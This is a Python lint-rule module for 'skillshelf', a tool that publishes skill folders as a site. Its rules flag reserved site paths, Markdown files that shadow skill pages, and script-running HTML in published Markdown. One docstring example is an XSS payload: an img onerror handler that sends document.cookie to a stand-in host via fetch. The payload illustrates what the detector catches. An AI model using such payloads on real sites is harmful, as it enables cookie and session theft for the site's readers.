"""Rules on how the tree lands on the published site: the paths it may not take,
the pages it would replace, and the HTML that would run there."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

from skillshelf.html_safety import UNSAFE_HTML
from skillshelf.published import INDEX_STEMS, page_dest, reserved_owner
from skillshelf.rules.base import Finding, LintContext, rule
from skillshelf.rules.reading import recorded


@rule(
    "reserved-path",
    "A top-level skill, category or file must not take a site path of the theme or the plugin.",
)
def reserved_path(ctx: LintContext) -> Iterator[Finding]:
    """## What it does
    Reports a folder or Markdown file directly below the skills root whose site path
    starts with a name the site keeps for itself: ``_skillshelf`` (the plugin's
    script and style), ``catalog``, ``skills.json``, ``llms.txt``, ``assets`` (the
    theme's scripts, styles and images), ``search``, ``tags``, ``404.html``,
    ``sitemap.xml``, in any case.

    ## Why is this bad?
    Every file of a skill is published at its path. A skill at
    ``assets/skillshelf/`` bundling a ``catalog.js`` would replace the script that
    every page of the site runs; a category named ``search`` would sit on the search
    index. The site refuses to build such a tree, and ``skillshelf export`` refuses
    to export it.

    ## Example
    ``skills/assets/javascripts/SKILL.md`` with a bundled ``bundle.js``.

    ## Use instead
    Rename the folder (``skills/design-assets/...``).
    """
    top = ctx.tree.top
    named: list[tuple[Path, str, str]] = [
        (category.dir, category.name, "folder") for category in top.children
    ]
    named += [(skill.dir, skill.folder_name, "folder") for skill in top.skills]
    named += [
        (document.path, page_dest(document.relpath), "file") for document in top.extra_documents
    ]
    for path, site_path, kind in named:
        owner = reserved_owner(site_path)
        if owner is not None:
            first = site_path.split("/", 1)[0]
            yield Finding(
                path,
                f"{first!r} is where the site keeps {owner}; whatever is published there "
                f"replaces it: rename the {kind}",
            )


@rule(
    "shadowed-page",
    "A Markdown file must not be published at the URL of a skill's or category's page.",
)
def shadowed_page(ctx: LintContext) -> Iterator[Finding]:
    """## What it does
    Reports an ``index.md`` or ``README.md`` in a skill or category folder (MkDocs
    publishes both as the folder's page), and an ``x.md`` beside a skill or
    sub-category folder ``x/``: each would be published at the URL of the
    skill's or category's own page. Also two files of one folder that MkDocs
    publishes at one URL (``index.md`` and ``README.md``).

    ## Why is this bad?
    Only one page can live at a URL. The site keeps the skill's (or category's)
    page and leaves the file out with a warning, so what it says is never
    published; before skillshelf checked, the file silently replaced the skill's
    page on the site while ``skillshelf export`` kept ``SKILL.md``.

    ## Example
    ``skills/mlops/vllm/README.md`` next to ``skills/mlops/vllm/SKILL.md``.

    ## Use instead
    Move what the file says into ``SKILL.md`` (or ``DESCRIPTION.md``), or give it
    another name (``references/overview.md``).
    """
    # page -> what holds it: a skill or category path, a document's, or "" (the home page)
    taken: dict[str, str] = {"index.html": ""}
    for path in ctx.tree.categories:
        taken[f"{path}/index.html"] = path
    for skill in ctx.tree.skills:
        taken[f"{skill.relpath}/index.html"] = skill.relpath
    for document in ctx.tree.all_documents:
        if document.kind.expects_frontmatter:  # SKILL.md and DESCRIPTION.md: the sections
            continue
        # page_dest() of a Markdown file, spelt out: this runs for every document
        parent, _, name = document.relpath.rpartition("/")
        stem = name[:-3] if name.endswith(".md") else name
        folder = f"{parent}/" if parent else ""
        dest = f"{folder}index.html" if stem in INDEX_STEMS else f"{folder}{stem}/index.html"
        holder = taken.get(dest)
        if holder is None:
            taken[dest] = document.relpath
            continue
        url = dest[: -len("index.html")] or "./"
        yield Finding(
            document.path,
            f"{document.name} would be published at {url}, which is {_page_of(ctx, holder)}; "
            "the site leaves this file out: move its text into that page or rename it",
        )


def _page_of(ctx: LintContext, holder: str) -> str:
    """What the page at a path is, in a message."""
    if not holder:
        return "the site's home page"
    if holder in ctx.tree.categories:
        return f"the page of category {holder!r}"
    skill = next((s for s in ctx.tree.skills if s.relpath == holder), None)
    if skill is not None:
        return f"the page of skill {skill.name!r}"
    return repr(holder)


@rule(
    UNSAFE_HTML,
    "Published Markdown must not hold HTML or links that run script on the site.",
)
def unsafe_html(ctx: LintContext) -> Iterator[Finding]:
    """## What it does
    Reports, outside code blocks, code spans and HTML comments of every published
    Markdown file (SKILL.md, DESCRIPTION.md, references, templates, notes):
    ``<script>``, ``<iframe>``, ``<object>``, ``<embed>``, ``<form>``, ``<meta>``,
    ``<base>``, ``<link>`` and ``<style>`` elements; ``on...=`` event handlers and
    ``srcdoc=`` on any element or in an attribute list (``{: onclick=...}``);
    ``style=`` holding ``expression(`` or ``javascript:``; and ``javascript:``,
    ``vbscript:`` or ``data:`` URLs in links, images and URL attributes (entities
    and blanks decoded first: ``jav&#x09;ascript:`` counts).

    ## Why is this bad?
    Skills come from strangers, and the site publishes their Markdown with its raw
    HTML. A handler or a ``javascript:`` link would run in every reader's browser,
    on the site's origin. The site strips all of this (plugin option ``sanitize``),
    so the author would see it vanish without a word; this rule says so first.

    ## Example
    ``<img src="x.png" onerror="fetch('//evil/' + document.cookie)">`` or
    ``[docs](javascript:alert(1))``.

    ## Use instead
    Plain Markdown: ``![diagram](assets/diagram.png)``, ``[docs](https://...)``.
    To show HTML, put it in a code block.
    """
    # Found by each document's analysis (skillshelf.html_safety), so the cache keeps it.
    yield from recorded(ctx, UNSAFE_HTML)
